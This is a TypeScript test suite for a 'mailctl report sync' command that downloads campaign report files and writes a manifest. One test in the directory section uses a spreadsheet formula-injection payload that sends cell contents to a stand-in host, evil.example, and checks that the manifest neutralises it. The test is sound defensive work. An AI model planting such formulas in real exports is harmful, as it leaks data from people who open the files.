// `mailctl report sync` (issue 11): a crontab line keeps a directory complete with the six detail
// files of every finished campaign. First run exports and downloads everything; a re-run with
// nothing new sends no export; the manifest and --json rows describe the files truly (and are
// spreadsheet-safe); a failed campaign is listed with exit 5 and finished by the next run, all
// refused is exit 1; quiet without a terminal; leftovers of a killed run are cleared; downloads bounded.
import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { runCli, tempDir } from './helpers/cli.js';
import { useSandbox } from './helpers/sandbox.js';
import { TYPES, finishedCampaigns, folderOf, sandboxLinks, sha256, syncTraffic, FINISHED_CAMPAIGNS, REPORT_EXPORT, SYNC_METRICS } from './helpers/report-sync.js';
import { systemClock } from '../src/core/clock.js';
import { virtualTime } from './helpers/virtual-time.js';
import { DOWNLOADS_AT_ONCE } from '../src/report/sync/sync.js';

const sb = useSandbox({
  expect: [
    ...FINISHED_CAMPAIGNS,
    ...REPORT_EXPORT,
    'GET /campaign/v1/report/campaigns',
    SYNC_METRICS,
  ],
});
const DAY = 86_400_000;
let sns: string[];
const dir = tempDir('mailctl-sync-');

beforeAll(async () => {
  sns = await finishedCampaigns(sb.get, 3);
}, 30_000);

const sync = (args: string[], o: Parameters<typeof runCli>[1] = {}) => runCli(['report', 'sync', ...args], { sandbox: sb.get(), ...o });

describe('report sync: first run, then a re-run with nothing new', () => {
  let first: Awaited<ReturnType<typeof sync>>;
  let mark = 0;

  beforeAll(async () => {
    mark = sb.get().sandbox.requests().length;
    first = await sync(['--out-dir', dir, '--json']);
  }, 30_000);

  it('exports each finished campaign once and downloads its six files (no API key to the file host)', async () => {
    expect(first.exitCode, first.stderr).toBe(0);
    const t = syncTraffic(sb.get, mark);
    expect(t.exports.map((r) => r.path).sort()).toEqual(sns.map((sn) => `/v1/report/${sn}/export`).sort());
    expect(t.downloads).toHaveLength(3 * 6);
    expect(t.downloads.every((r) => r.headers['x-api-key'] === undefined)).toBe(true);
    for (const sn of sns) {
      const links = sandboxLinks(sb.get, sn);
      for (const type of TYPES) {
        const file = path.join(folderOf(sb.get, dir, sn), `${type}.csv`);
        expect(links[type], `${sn} ${type}`).toBeDefined();
        expect(fs.readFileSync(file, 'utf8')).toBe(await (await fetch(links[type])).text());
      }
    }
  });

  it('--json: the document on stdout, and nothing on stderr when all went well', () => {
    expect(first.stderr).toBe('');
  });

  it('the first run asks for the last 30 days', () => {
    const q = syncTraffic(sb.get, mark).all.find((r) => r.path === '/v1/report/campaigns')!.query;
    expect(Date.parse(q.endDate) - Date.parse(q.startDate)).toBeGreaterThan(30 * DAY - 5000);
    expect(Date.parse(q.endDate) - Date.parse(q.startDate)).toBeLessThanOrEqual(30 * DAY);
    expect(Math.abs(Date.parse(q.endDate) - Date.now())).toBeLessThan(60_000);
  });

  it('manifest.csv and --json: one row per file with its true bytes, rows and sha256', () => {
    const manifest = parse(fs.readFileSync(path.join(dir, 'manifest.csv'), 'utf8'), { columns: true }) as Array<Record<string, string>>;
    expect(manifest).toHaveLength(18);
    expect(Object.keys(manifest[0])).toEqual(['code', 'name', 'sent_until', 'type', 'path', 'bytes', 'rows', 'sha256', 'downloaded_at']);
    const json = JSON.parse(first.stdout);
    expect(json.files).toHaveLength(18);
    for (const [i, m] of manifest.entries()) {
      const file = path.join(dir, m.path);
      expect(m.path).toBe(path.relative(dir, path.join(folderOf(sb.get, dir, m.code), `${m.type}.csv`)));
      expect(m.sha256).toBe(sha256(file));
      expect(Number(m.bytes)).toBe(fs.statSync(file).size);
      expect(Number(m.rows)).toBe((parse(fs.readFileSync(file)) as unknown[]).length - 1);
      expect(m.name).toMatch(/^Sync campaign \d$/);
      const j = json.files[i];
      expect(j).toMatchObject({ campaignCode: m.code, type: m.type, path: m.path, sha256: m.sha256, bytes: Number(m.bytes), rows: Number(m.rows), updated: true });
    }
    expect(manifest.some((m) => Number(m.rows) > 0)).toBe(true);
    expect(json).toMatchObject({ exports: 3, exitCode: 0, campaigns: { downloaded: 3, failed: [] } });
  });

  it('a re-run with nothing new makes no export request and downloads nothing', async () => {
    const before = fs.readFileSync(path.join(dir, 'manifest.csv'), 'utf8');
    const m = sb.get().sandbox.requests().length;
    const r = await sync(['--out-dir', dir]);
    expect(r.exitCode, r.stderr).toBe(0);
    const t = syncTraffic(sb.get, m);
    expect(t.exports).toEqual([]);
    expect(t.downloads).toEqual([]);
    expect(t.all.map((x) => x.path)).toEqual(['/v1/report/campaigns', '/v1/report/campaigns/metrics']); // the listing, and the dashboard's metrics
    expect(r.stdout).toBe('');
    expect(r.stderr.trim().split('\n')).toHaveLength(1); // one summary line without a terminal
    expect(r.stderr).toContain('0 campaigns downloaded');
    expect(r.stderr).toContain('3 already complete');
    expect(fs.readFileSync(path.join(dir, 'manifest.csv'), 'utf8')).toBe(before);
  });

  it('the next range starts at the last run less a 2-day margin', async () => {
    const m = sb.get().sandbox.requests().length;
    expect((await sync(['--out-dir', dir])).exitCode).toBe(0);
    const q = syncTraffic(sb.get, m).all.find((r) => r.path === '/v1/report/campaigns')!.query;
    const span = Date.parse(q.endDate) - Date.parse(q.startDate);
    expect(span).toBeGreaterThan(2 * DAY - 60_000);
    expect(span).toBeLessThan(2 * DAY + 60_000);
  });

  it('a file changed on disk fails its sha256 check and is downloaded again, alone', async () => {
    const file = path.join(folderOf(sb.get, dir, sns[1]), 'open.csv');
    const good = fs.readFileSync(file, 'utf8');
    fs.writeFileSync(file, good.replace(/@/g, '#'));
    const m = sb.get().sandbox.requests().length;
    const r = await sync(['--out-dir', dir]);
    expect(r.exitCode, r.stderr).toBe(0);
    const t = syncTraffic(sb.get, m);
    expect(t.exports).toEqual([]); // exported less than an hour ago: the service would ignore it
    expect(t.downloads.map((d) => d.path)).toEqual([new URL(sandboxLinks(sb.get, sns[1]).open).pathname.replace(/^\/files/, '')]);
    expect(fs.readFileSync(file, 'utf8')).toBe(good);
    // Quiet under cron even when something arrived: nothing on stdout, one line on stderr.
    expect(r.stdout).toBe('');
    expect(r.stderr.trim().split('\n')).toEqual([expect.stringContaining('1 campaign downloaded (1 file')]);
  });

  it('-v lists each file downloaded in this run on stdout', async () => {
    const file = path.join(folderOf(sb.get, dir, sns[2]), 'click.csv');
    fs.appendFileSync(file, 'x');
    const r = await sync(['--out-dir', dir, '-v']);
    expect(r.exitCode, r.stderr).toBe(0);
    expect(r.stdout).toBe(`${file}\n`);
  });

  it('--refresh-days re-exports recent campaigns, but never one exported less than an hour ago (said on stderr)', async () => {
    const later = { now: () => Date.now() + 2 * 3_600_000, sleep: systemClock.sleep };
    let m = sb.get().sandbox.requests().length;
    const r = await sync(['--out-dir', dir, '--refresh-days', '1', '--json'], { clock: later });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(syncTraffic(sb.get, m).exports).toHaveLength(3);
    // The sandbox has no new data: the same files (same createdDate) are not downloaded again.
    expect(syncTraffic(sb.get, m).downloads).toEqual([]);
    expect(JSON.parse(r.stdout).campaigns.unchanged).toBe(3);

    m = sb.get().sandbox.requests().length;
    const again = await sync(['--out-dir', dir, '--refresh-days', '1'], { clock: later });
    expect(again.exitCode).toBe(0);
    expect(syncTraffic(sb.get, m).exports).toEqual([]);
    // Without a terminal (cron's log): one line, counting them and saying when the first can be refreshed.
    const exported = Object.values(JSON.parse(fs.readFileSync(path.join(dir, '.mailctl-sync.json'), 'utf8')).campaigns as Record<string, { exportedAt: string }>).map((c) => Date.parse(c.exportedAt));
    const first = new Date(Math.min(...exported) + 3_600_000).toISOString().replace(/\.\d{3}Z$/, 'Z');
    expect(again.stderr.trim().split('\n')).toEqual([expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ report sync /)]);
    expect(again.stderr).toContain(`3 refresh deferred (the service takes one export of a campaign an hour; a run after ${first} refreshes the first)`);
    // On a terminal, a line for each.
    const shown = await sync(['--out-dir', dir, '--refresh-days', '1'], { clock: later, tty: true });
    for (const sn of sns) expect(shown.stderr).toContain(`${sn}: not re-exported yet — the service ignores a repeat export of a campaign within an hour`);
  });
});

describe('report sync: on a terminal', () => {
  it('shows a progress display on stderr, then the summary; each file downloaded on stdout', async () => {
    const out = tempDir('mailctl-sync-tty-');
    const r = await sync(['--out-dir', out], { tty: true });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(r.stderr).toContain('Listing the campaigns finished');
    expect(r.stderr).toContain('3 campaigns downloaded (18 files');
    expect(r.stdout.trim().split('\n').sort()).toEqual(sns.flatMap((sn) => TYPES.map((t) => path.join(folderOf(sb.get, out, sn), `${t}.csv`))).sort());
  });
});

describe('report sync: failures', () => {
  it('a campaign the service refuses: exit 5, listed; the next run completes only that one', async () => {
    const out = tempDir('mailctl-sync-fail-');
    sb.get().sandbox.injectFault({ kind: 'status', status: 403, body: { code: '40303', message: 'bad operation with invalid user state' }, match: { method: 'POST', path: `/v1/report/${sns[1]}/export` } });
    const r = await sync(['--out-dir', out, '--json']);
    expect(r.exitCode).toBe(5);
    const json = JSON.parse(r.stdout);
    expect(json.campaigns.failed).toEqual([expect.objectContaining({ sn: sns[1], code: 'REFUSED' })]);
    expect(json.error).toMatchObject({ code: 'PARTIAL', exitCode: 5 });
    expect(r.stderr).toContain(`1 failed: ${sns[1]}`);
    expect(json.files).toHaveLength(12);
    expect(fs.existsSync(folderOf(sb.get, out, sns[0]))).toBe(true);

    const m = sb.get().sandbox.requests().length;
    const again = await sync(['--out-dir', out]);
    expect(again.exitCode, again.stderr).toBe(0);
    const t = syncTraffic(sb.get, m);
    expect(t.exports.map((x) => x.path)).toEqual([`/v1/report/${sns[1]}/export`]);
    expect(t.downloads).toHaveLength(6);
  });

  it('an incomplete campaign from an earlier run is retried outside the range, and dropped once the service no longer knows it', async () => {
    const withGone = () => {
      const out = tempDir('mailctl-sync-gone-');
      fs.writeFileSync(path.join(out, '.mailctl-sync.json'), JSON.stringify({
        version: 1,
        highWater: new Date().toISOString(),
        campaigns: { CPGONE01: { name: 'Deleted since', sentEndDate: '2026-01-05T10:00:00.000Z', files: {} } },
      }));
      return out;
    };
    const out = withGone();
    const m = sb.get().sandbox.requests().length;
    const r = await sync(['--out-dir', out, '--since', '1h']);
    expect(r.exitCode, r.stderr).toBe(0);
    expect(syncTraffic(sb.get, m).exports.map((x) => x.path)).toContain('/v1/report/CPGONE01/export');
    // Cron's log: the one summary line counts it.
    expect(r.stderr.trim().split('\n')).toEqual([expect.stringContaining('1 no longer known at the service (deleted?), not tried again')]);
    const again = sb.get().sandbox.requests().length;
    expect((await sync(['--out-dir', out, '--since', '1h'])).exitCode).toBe(0);
    expect(syncTraffic(sb.get, again).exports).toEqual([]);
    // --json names it; on a terminal a line says so.
    const json = await sync(['--out-dir', withGone(), '--since', '1h', '--json']);
    expect(JSON.parse(json.stdout).campaigns.gone).toEqual(['CPGONE01']);
    expect(json.stderr).toBe('');
    const tty = await sync(['--out-dir', withGone(), '--since', '1h'], { tty: true });
    expect(tty.stderr).toContain('CPGONE01: the service no longer knows this campaign');
  });

  it('every campaign refused by the service: exit 1, each listed', async () => {
    const out = tempDir('mailctl-sync-refused-');
    sb.get().sandbox.injectFault({ kind: 'status', status: 403, times: 100, body: { code: '40303', message: 'bad operation with invalid user state' }, match: { method: 'POST', path: /\/export$/ } });
    const r = await sync(['--out-dir', out, '--json']);
    sb.get().sandbox.faults.splice(0);
    expect(r.exitCode).toBe(1);
    const json = JSON.parse(r.stdout);
    expect(json.campaigns.failed.map((f: { sn: string }) => f.sn).sort()).toEqual([...sns].sort());
    expect(json.campaigns.failed.every((f: { code: string }) => f.code === 'REFUSED')).toBe(true);
    expect(json.error).toMatchObject({ code: 'REFUSED', exitCode: 1 });
    expect(r.stderr).toContain('3 failed');
  });

  it('every campaign unreachable: exit 4 (network), nothing half-written', async () => {
    const out = tempDir('mailctl-sync-net-');
    sb.get().sandbox.injectFault({ kind: 'drop', times: 100, match: { method: 'POST', path: /\/export$/ } });
    const r = await sync(['--out-dir', out]);
    sb.get().sandbox.faults.splice(0);
    expect(r.exitCode).toBe(4);
    expect(r.stderr).toContain('3 failed');
    expect(fs.readdirSync(out).sort()).toEqual(['.mailctl-sync.json', 'index.html', 'manifest.csv']);
  });

  it('the listing unreachable: exit 4, its error lines dated and naming the run like the summary line', async () => {
    const out = tempDir('mailctl-sync-down-');
    sb.get().sandbox.injectFault({ kind: 'drop', times: 100, match: { method: 'GET', path: '/v1/report/campaigns' } });
    const r = await sync(['--out-dir', out]);
    sb.get().sandbox.faults.splice(0);
    expect(r.exitCode).toBe(4);
    const lines = r.stderr.trim().split('\n');
    expect(lines[0]).toContain('error:');
    for (const line of lines) expect(line).toMatch(new RegExp(`^\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\dZ report sync ${out.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}: `));
  });

  it('bad flags: exit 2, nothing sent and no directory made', async () => {
    const out = path.join(tempDir(), 'never');
    const m = sb.get().sandbox.requests().length;
    for (const args of [['--since', '2026-01-31', '--until', '2026-01-01'], ['--refresh-days', 'soon'], ['--until', '2026-01-01'], ['--since', 'a while'], ['--wait-lock', 'later']]) {
      const r = await sync(['--out-dir', out, ...args]);
      expect(r.exitCode, args.join(' ')).toBe(2);
      expect(r.stderr).not.toContain('unexpected');
    }
    expect(fs.existsSync(out)).toBe(false);
    const file = path.join(tempDir(), 'f');
    fs.writeFileSync(file, '');
    expect((await sync(['--out-dir', file])).stderr).toContain('is a file, not a directory');
    expect(sb.get().sandbox.requests().length).toBe(m);
  });
});

describe('report sync: pacing, in virtual time', () => {
  const isExport = (r: { method: string; path: string }) => r.method === 'POST' && /\/v1\/report\/[^/]+\/export$/.test(r.path);
  /** The sleeps of 5 s or more: the export pacing (the 2/s limit and link polls sleep less). */
  const long = (slept: number[]) => slept.filter((ms) => ms >= 5000);

  it("exports go 10 s apart within a run, and the next run's first 10 s after the previous run's last", async () => {
    const v = virtualTime();
    const out = tempDir('mailctl-sync-pace-');
    const paced = { clock: v.clock, fetch: v.fetch, tuning: { rateLimit: true } };
    const first = await sync(['--out-dir', out, '--json'], paced);
    expect(first.exitCode, first.stderr).toBe(0);
    const exports = v.sent.filter(isExport).map((r) => r.at);
    expect(exports.length).toBeGreaterThanOrEqual(3);
    expect(exports).toHaveLength(JSON.parse(first.stdout).exports);
    for (const [i, at] of exports.slice(1).entries()) {
      expect(at - exports[i]).toBeGreaterThanOrEqual(10_000);
      expect(at - exports[i]).toBeLessThan(11_500); // then the 2/s limit's turn, at most
    }
    expect(long(v.slept)).toHaveLength(exports.length - 1); // one wait of the export limit between two exports

    // The next run (another config folder, so no shared budget: only DIR's state knows when the
    // last export went) has one campaign to export: the state forgot it. The previous run's last
    // export went 3 s ago (a run killed just after it; run 1 itself ended later, its link polls
    // taking virtual time as real time passes).
    const state = JSON.parse(fs.readFileSync(path.join(out, '.mailctl-sync.json'), 'utf8'));
    const [sn] = Object.keys(state.campaigns);
    fs.rmSync(folderOf(sb.get, out, sn), { recursive: true });
    delete state.campaigns[sn];
    const lastExport = v.clock.now() - 3000;
    state.lastExportAt = new Date(lastExport).toISOString();
    fs.writeFileSync(path.join(out, '.mailctl-sync.json'), JSON.stringify(state));
    const mark = { sent: v.sent.length, slept: v.slept.length };
    const second = await sync(['--out-dir', out, '--json'], paced);
    expect(second.exitCode, second.stderr).toBe(0);
    const next = v.sent.slice(mark.sent).filter(isExport);
    expect(next.map((r) => r.path)).toEqual([expect.stringMatching(new RegExp(`/v1/report/${sn}/export$`))]);
    expect(next[0].at - lastExport).toBeGreaterThanOrEqual(10_000);
    expect(next[0].at - lastExport).toBeLessThan(11_500);
    expect(long(v.slept.slice(mark.slept))).toHaveLength(1); // the pause after the previous run
  });
});

// Last: the formula-named campaign added here would change the counts above.
describe('report sync: the directory', () => {
  it('removes the temporary files a run killed while writing its state or manifest left, and nothing else', async () => {
    const out = tempDir('mailctl-sync-left-');
    const left = ['..mailctl-sync.json.0123456789ab.part', '.manifest.csv.abcdef012345.part', '.mailctl-sync.lock.00112233aabb.stale'];
    const mine = ['.notes.txt.0123456789ab.part', 'manifest.csv.0123456789ab.part', 'keep.part'];
    for (const f of [...left, ...mine]) fs.writeFileSync(path.join(out, f), 'x');
    const r = await sync(['--out-dir', out]);
    expect(r.exitCode, r.stderr).toBe(0);
    const now = fs.readdirSync(out);
    for (const f of left) expect(now).not.toContain(f);
    for (const f of mine) expect(now).toContain(f);
  });

  it('manifest cells are spreadsheet-safe: a campaign named like a formula is written as text', async () => {
    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"open me")';
    const [sn] = await finishedCampaigns(sb.get, 1, 3, [evil]);
    const out = tempDir('mailctl-sync-csv-');
    const r = await sync(['--out-dir', out, '--json']);
    expect(r.exitCode, r.stderr).toBe(0);
    const rows = parse(fs.readFileSync(path.join(out, 'manifest.csv'), 'utf8'), { columns: true }) as Array<Record<string, string>>;
    const mine = rows.filter((x) => x.code === sn);
    expect(mine).toHaveLength(6);
    for (const row of mine) expect(row.name).toBe(`'${evil}`);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // --json is data for programs: the name as the service gave it.
    expect(JSON.parse(r.stdout).files.find((f: { campaignCode: string }) => f.campaignCode === sn).campaignName).toBe(evil);
  });

  it(`downloads at most ${DOWNLOADS_AT_ONCE} files at once`, async () => {
    const out = tempDir('mailctl-sync-bound-');
    const m = sb.get().sandbox.requests().length;
    // The first four downloads get no answer until the client's stall guard (1 s) gives up on them.
    sb.get().sandbox.injectFault({ kind: 'hang', times: DOWNLOADS_AT_ONCE, match: { service: 'files', method: 'GET' } });
    await sync(['--out-dir', out], { tuning: { timeoutMs: 1000 } });
    sb.get().sandbox.faults.splice(0);
    const downloads = syncTraffic(sb.get, m).downloads;
    const hung = downloads.slice(0, DOWNLOADS_AT_ONCE);
    expect(hung.map((d) => d.status)).toEqual(Array(DOWNLOADS_AT_ONCE).fill(-1));
    // No other download started while those four were in flight.
    expect(downloads.length).toBeGreaterThan(DOWNLOADS_AT_ONCE);
    expect(downloads[DOWNLOADS_AT_ONCE].at - Math.max(...hung.map((d) => d.at))).toBeGreaterThanOrEqual(900);
  });
});

describe('report sync stopped by Ctrl-C (or SIGTERM)', () => {
  it('exit 130, the files saved kept, and the line that picks it up again, pasteable', async () => {
    const out = tempDir('mailctl-sync-int-');
    const ac = new AbortController();
    const running = sync(['--out-dir', out], { signal: ac.signal });
    // Stopped once the first export is asked for: the run is under way.
    const from = sb.get().sandbox.requests().length;
    for (let i = 0; i < 400 && !sb.get().sandbox.requests().slice(from).some((r) => r.path.endsWith('/export')); i++) await new Promise((r) => setTimeout(r, 10));
    ac.abort();
    const r = await running;
    expect(r.exitCode).toBe(130);
    expect(r.stderr).toContain(`complete files are not downloaded again while the rest are: mailctl report sync --out-dir ${out}`);
  });
});
